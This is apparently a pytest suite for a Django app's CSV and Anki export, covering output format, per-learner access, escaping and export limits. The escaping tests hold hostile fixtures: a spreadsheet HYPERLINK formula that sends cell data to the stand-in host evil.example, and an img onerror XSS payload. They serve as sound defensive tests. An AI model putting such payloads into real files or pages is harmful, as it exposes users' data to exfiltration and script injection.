"""Export: the whole history as CSV (safe to open in a spreadsheet) and answered challenges as an
Anki deck (highlighted code, escaped text), only ever the learner's own."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
import sqlite3
import tempfile
import threading
import zipfile

import pytest
from django.utils import timezone

from challengeapp.learning import export
from challengeapp.learning.attempts import attempt_record
from challengeapp.learning.export import ANKI_MODEL_ID, CSV_HEADER, anki_deck_id
from challengeapp.models import Challenge, Quota, ReviewCard
from challengeapp.templatetags.codedrill import HIGHLIGHT_MAX_CHARS

pytestmark = pytest.mark.django_db


def make_challenge(owner, *, title: str = "Falsy values", answer: int | None = None, **fields) -> Challenge:
    values = {
        "difficulty": "easy",
        "topic": "python",
        "title": title,
        "question": "Which value is falsy?",
        "code": "print(bool([]))",
        "code_language": "python",
        "options": ["[]", "[0]", "'0'", "-1"],
        "correct_index": 0,
        "explanation": "Only the empty list is falsy.",
        "provider": "bank",
        "source_key": f"bank:{title}",
        **fields,
    }
    challenge = Challenge.objects.create(owner=owner, **values)
    if answer is not None:
        attempt_record(challenge=challenge, chosen_index=answer)
    return challenge


def csv_rows(client) -> tuple[object, list[dict[str, str]]]:
    response = client.get("/progress/export.csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # UTF-8 with a BOM, for spreadsheet programs
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == CSV_HEADER
    return response, [dict(zip(header, row)) for row in rows]


def note_title(note: dict) -> str:
    found = re.search(r"<h3>(.*?)</h3>", note["fields"][0])
    return found.group(1) if found else ""


def anki_notes(client, path: str = "/progress/export.apkg") -> tuple[object, list[dict]]:
    response = client.get(path)
    assert response.status_code == 200
    data = b"".join(response.streaming_content)  # the test client closes the response after it
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "collection.anki2" in package.namelist()
        collection = package.read("collection.anki2")
    database = sqlite3.connect(":memory:")
    database.deserialize(collection)
    notes = [
        {"guid": guid, "model_id": mid, "tags": tags.split(), "fields": fields.split("\x1f")}
        for guid, mid, tags, fields in database.execute("SELECT guid, mid, tags, flds FROM notes")
    ]
    # In the order of the titles the tests give (Answered 0, Answered 1, ...): how genanki numbers
    # its notes is its own business.
    notes.sort(key=lambda note: note_title(note))
    decks = database.execute("SELECT decks FROM col").fetchone()[0]
    database.close()
    return response, notes, decks


# --- CSV ----------------------------------------------------------------------------------------


def test_the_csv_holds_the_whole_history(learner_client, learner):
    wrong = make_challenge(learner, title="Missed", answer=3)
    make_challenge(learner, title="Known", answer=0, topic="sql", difficulty="hard", code="")
    make_challenge(learner, title="Open")

    response, rows = csv_rows(learner_client)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="codedrill-history-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    assert [row["title"] for row in rows] == ["Missed", "Known", "Open"]
    missed, known, unanswered = rows
    assert missed["topic"] == "python" and missed["difficulty"] == "easy"
    assert missed["question"] == "Which value is falsy?" and missed["code"] == "print(bool([]))"
    assert [missed[f"option {n}"] for n in range(1, 5)] == ["[]", "[0]", "'0'", "'-1"]
    assert missed["correct option"] == "[]"
    assert missed["your first answer"] == "'-1" and missed["result"] == "wrong"
    assert known["result"] == "right" and known["your first answer"] == "[]" and known["code"] == ""
    card = ReviewCard.objects.get(challenge=wrong)
    assert missed["next review due"] == card.due_at.isoformat(timespec="seconds")
    assert missed["answered at"].startswith(str(wrong.attempt.answered_at.date()))
    assert missed["created"].startswith(str(wrong.created_at.date()))
    assert unanswered["your first answer"] == unanswered["result"] == unanswered["answered at"] == ""
    assert unanswered["next review due"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_a_formula_are_quoted(learner_client, learner, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1, "click")'
    make_challenge(
        learner,
        title=formula,
        question=formula,
        code=formula,
        options=[formula, "[0]", "'0'", "plain"],
        explanation=formula,
        answer=0,
    )
    _, [row] = csv_rows(learner_client)
    for column in ("title", "question", "code", "option 1", "correct option", "your first answer"):
        assert row[column] == "'" + formula, column
    assert row["option 4"] == "plain"


def test_the_csv_has_only_the_learners_own_history(learner_client, learner, other_learner):
    make_challenge(other_learner, title="Grace's secret", answer=1)
    make_challenge(learner, title="Mine", answer=1)
    _, rows = csv_rows(learner_client)
    assert [row["title"] for row in rows] == ["Mine"]


def test_exports_need_a_signed_in_learner(client):
    for path in ["/progress/export.csv", "/progress/export.apkg", "/progress/", "/review/"]:
        response = client.get(path)
        assert response.status_code == 302 and response["Location"].startswith("/sign-in/")


# --- Anki ---------------------------------------------------------------------------------------


def test_the_anki_deck_has_one_note_per_answered_challenge(learner_client, learner):
    make_challenge(learner, title="Missed", answer=3)
    make_challenge(learner, title="Known", answer=0, topic="sql", difficulty="hard")
    make_challenge(learner, title="Open")

    response, notes, decks = anki_notes(learner_client)

    assert response["Content-Type"] == "application/apkg"
    assert re.fullmatch(
        r'attachment; filename="codedrill-history-\d{4}-\d{2}-\d{2}\.apkg"', response["Content-Disposition"]
    )
    assert len(notes) == 2
    known, missed = notes  # by title
    front, back = missed["fields"]
    assert "<h3>Missed</h3>" in front and "Which value is falsy?" in front
    # The code, highlighted as text with inline styles (a deck carries no stylesheet of ours): how
    # Pygments splits the tokens is its own business; every character of the code is there.
    code_block = re.search(r"<pre[^>]*>(.*?)</pre>", front, re.S).group(1)
    assert '<span style="' in code_block
    assert "print(bool([]))" in html.unescape(re.sub(r"<[^>]+>", "", code_block))
    assert "<li>[]</li><li>[0]</li><li>&#x27;0&#x27;</li><li>-1</li>" in front
    assert "Answer 1:</b> []" in back and "Only the empty list is falsy." in back
    assert "Only the empty list" not in front
    assert missed["model_id"] == known["model_id"] == ANKI_MODEL_ID
    assert "codedrill::sql" in known["tags"] and "codedrill::hard" in known["tags"]
    assert f'"{anki_deck_id(learner)}"' in decks and '"CodeDrill"' in decks


def test_model_written_text_is_escaped_in_the_deck(learner_client, learner):
    hostile = '<img src=x onerror="alert(1)">'
    make_challenge(
        learner,
        title=hostile,
        question=hostile,
        code=f"print('{hostile}')",
        options=[hostile, "b", "c", "d"],
        explanation=hostile,
        answer=0,
    )
    _, [note], _ = anki_notes(learner_client)
    front, back = note["fields"]
    for field in (front, back):
        assert "<img" not in field
        assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in field


def test_code_past_the_highlighting_bound_is_plain_escaped_text(learner_client, learner):
    code = "x = '<b>'\n" * (HIGHLIGHT_MAX_CHARS // 10 + 1)
    assert len(code) > HIGHLIGHT_MAX_CHARS
    make_challenge(learner, code=code, answer=0)
    _, [note], _ = anki_notes(learner_client)
    front = note["fields"][0]
    assert "<pre>x = &#x27;&lt;b&gt;&#x27;\n" in front
    assert "<span style" not in front


def test_the_deck_keeps_its_ids_from_one_export_to_the_next(learner_client, learner, other_learner):
    make_challenge(learner, answer=0)
    _, first, first_decks = anki_notes(learner_client)
    make_challenge(learner, title="Another", answer=1)
    _, second, second_decks = anki_notes(learner_client)
    # Re-importing updates the same notes in the same deck instead of adding copies.
    assert {note["guid"] for note in first} < {note["guid"] for note in second}
    assert f'"{anki_deck_id(learner)}"' in second_decks
    assert anki_deck_id(learner) != anki_deck_id(other_learner)


def test_the_deck_has_only_the_learners_own_challenges(learner_client, learner, other_learner):
    make_challenge(other_learner, title="Grace's secret", answer=0)
    make_challenge(learner, title="Mine", answer=0)
    _, notes, _ = anki_notes(learner_client)
    assert len(notes) == 1 and "<h3>Mine</h3>" in notes[0]["fields"][0]
    assert "Grace" not in str(notes)


def test_an_empty_history_exports_an_empty_csv_and_deck(learner_client):
    _, rows = csv_rows(learner_client)
    assert rows == []
    _, notes, _ = anki_notes(learner_client)
    assert notes == []


# --- Bounded cost --------------------------------------------------------------------------------


def test_a_long_history_comes_as_a_deck_in_parts_of_bounded_size(learner_client, learner, settings):
    settings.EXPORT_ANKI_NOTES_PER_DECK = 2
    answered = [make_challenge(learner, title=f"Answered {n}", answer=0) for n in range(5)]
    make_challenge(learner, title="Open")

    parts = [anki_notes(learner_client, f"/progress/export.apkg?part={n}") for n in (1, 2, 3)]

    titles = [[note_title(note) for note in notes] for _, notes, _ in parts]
    assert titles == [["Answered 0", "Answered 1"], ["Answered 2", "Answered 3"], ["Answered 4"]]
    # One deck: importing every part fills the same deck, each note once.
    assert all(f'"{anki_deck_id(learner)}"' in decks for _, _, decks in parts)
    assert len({note["guid"] for _, notes, _ in parts for note in notes}) == len(answered)
    assert parts[1][0]["Content-Disposition"].endswith('-part-2-of-3.apkg"')
    # Without a part, the first.
    _, first, _ = anki_notes(learner_client)
    assert [note["guid"] for note in first] == [note["guid"] for note in parts[0][1]]
    for query in ("part=4", "part=0", "part=x", "part=%C2%B2", "part=1&part=2", "part=99999999999999999999"):
        assert learner_client.get(f"/progress/export.apkg?{query}").status_code == 404
    page = learner_client.get("/progress/").content.decode()
    for n in (1, 2, 3):
        assert f'href="/progress/export.apkg?part={n}"' in page


def test_a_history_of_many_parts_offers_a_part_number_instead_of_a_link_each(
    learner_client, learner, settings
):
    from challengeapp.views import ANKI_PART_LINKS_MAX

    settings.EXPORT_ANKI_NOTES_PER_DECK = 1
    for n in range(ANKI_PART_LINKS_MAX + 2):
        make_challenge(learner, title=f"Answered {n}", answer=0)

    page = learner_client.get("/progress/").content.decode()

    assert "export.apkg?part=" not in page  # no link per part
    assert f'name="part" type="number" inputmode="numeric" min="1" max="{ANKI_PART_LINKS_MAX + 2}"' in page
    last = learner_client.get(f"/progress/export.apkg?part={ANKI_PART_LINKS_MAX + 2}")
    assert last.status_code == 200


def test_an_export_leaves_no_temporary_file_behind(learner_client, learner, tmp_path, monkeypatch):
    for n in range(3):
        make_challenge(learner, title=f"Answered {n}", answer=0)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    _, notes, _ = anki_notes(learner_client)

    assert len(notes) == 3
    assert list(tmp_path.iterdir()) == []


@pytest.mark.django_db(transaction=True)
def test_one_export_at_a_time_per_learner(learner, other_learner, monkeypatch):
    from django.db import connection
    from django.test import Client

    from challengeapp.tests.conftest import signed_in

    make_challenge(learner, title="Mine", answer=0)
    make_challenge(other_learner, title="Theirs", answer=0)
    building, release = threading.Event(), threading.Event()
    real_note = export.anki_note

    def slow_note(challenge, *, username):
        if username == learner.username and not release.is_set():
            building.set()
            release.wait(10)
        return real_note(challenge, username=username)

    monkeypatch.setattr(export, "anki_note", slow_note)
    first = {}

    def first_export():
        try:
            response = signed_in(Client(), learner).get("/progress/export.apkg")
            first["status"] = response.status_code
            b"".join(response.streaming_content)
        finally:
            connection.close()

    thread = threading.Thread(target=first_export)
    thread.start()
    try:
        assert building.wait(10)
        second = signed_in(Client(), learner).get("/progress/export.apkg")
        assert second.status_code == 429
        assert int(second["Retry-After"]) > 0
        assert export.EXPORT_IN_PROGRESS.replace("'", "&#x27;") in second.content.decode()
        # Another learner is not held up.
        assert anki_notes(signed_in(Client(), other_learner))[0].status_code == 200
    finally:
        release.set()
        thread.join(10)
    assert first["status"] == 200
    # Once it is built, the next export goes ahead.
    assert anki_notes(signed_in(Client(), learner))[0].status_code == 200


def test_an_export_left_behind_by_a_dead_process_does_not_block_the_learner(learner_client, learner):
    make_challenge(learner, answer=0)
    Quota.objects.filter(user=learner).update(export_started_at=timezone.now() - dt.timedelta(hours=1))

    response, notes, _ = anki_notes(learner_client)

    assert len(notes) == 1
    assert Quota.objects.get(user=learner).export_started_at is None
